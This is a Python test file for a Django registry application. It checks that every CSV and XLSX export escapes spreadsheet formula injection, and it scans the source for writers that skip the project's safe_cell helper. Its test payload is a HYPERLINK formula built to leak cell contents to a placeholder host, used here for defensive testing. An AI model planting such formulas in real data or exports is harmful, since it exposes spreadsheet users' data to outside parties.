"""Spreadsheet formula injection (cells starting with = + - @) is neutralised in every export.

Behaviour: a profile field set to a formula comes out of the public open-data CSV and XLSX as text.
Source check: every module that writes CSV or XLSX uses ``lienket.core.exports.safe_cell``/``safe_row`` (or its
own equivalent), so a new writer is caught without a dedicated test; the known gaps are listed with xfail(strict).
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

SRC = Path(__file__).resolve().parents[3] / "src" / "lienket"
WRITES = re.compile(r"csv\.writer|csv\.DictWriter|\.writerows?\(|\bws\.append\(|\.cell\(.*value=")
SAFE = re.compile(r"safe_cell|safe_row")
# Writers whose output is not user text, or that are known gaps (each with why).
NOT_USER_TEXT = {
    "core/intake.py": "reads uploads; writes nothing a person opens",
    "commands/resolve.py": "machine output of `lienket resolve`: the input file's own ids and entity labels",
}
KNOWN_GAPS = {
}
PAYLOAD = '=HYPERLINK("http://example.invalid/?leak="&A1,"Bấm vào đây")'


def _writers() -> list[str]:
    out = []
    for path in SRC.rglob("*.py"):
        rel = path.relative_to(SRC).as_posix()
        if "migrations/" in rel or rel.startswith("core/exports.py"):
            continue
        text = path.read_text(encoding="utf-8")
        if WRITES.search(text):
            out.append(rel)
    return sorted(out)


def test_every_export_writer_neutralises_formulas_or_is_listed():
    unsafe = [
        rel
        for rel in _writers()
        if rel not in NOT_USER_TEXT
        and rel not in KNOWN_GAPS
        and not SAFE.search((SRC / rel).read_text("utf-8"))
    ]
    assert not unsafe, f"use lienket.core.exports.safe_cell/safe_row in: {unsafe}"


@pytest.mark.parametrize("rel", sorted(KNOWN_GAPS))
@pytest.mark.xfail(strict=True, reason="known gap: see KNOWN_GAPS; remove the entry once it uses safe_cell")
def test_known_gap_is_still_open(rel):
    assert SAFE.search((SRC / rel).read_text("utf-8"))


def test_open_data_csv_and_xlsx_carry_formulas_as_text(client, officer, supplier):
    import openpyxl

    from lienket.web.registry import services

    services.update_record(
        supplier, {"name_en": PAYLOAD}, expected_version=supplier.row_version, actor=officer
    )
    body = b"".join(client.get(reverse("opendata:download", args=["enterprises", "csv"])).streaming_content)
    cells = [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in row]
    assert "'" + PAYLOAD in cells and PAYLOAD not in cells

    resp = client.get(reverse("opendata:download", args=["enterprises", "xlsx"]))
    wb = openpyxl.load_workbook(io.BytesIO(b"".join(resp.streaming_content)))
    values = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert "'" + PAYLOAD in values and PAYLOAD not in values
    assert not any(isinstance(v, str) and v.startswith("=") for v in values)
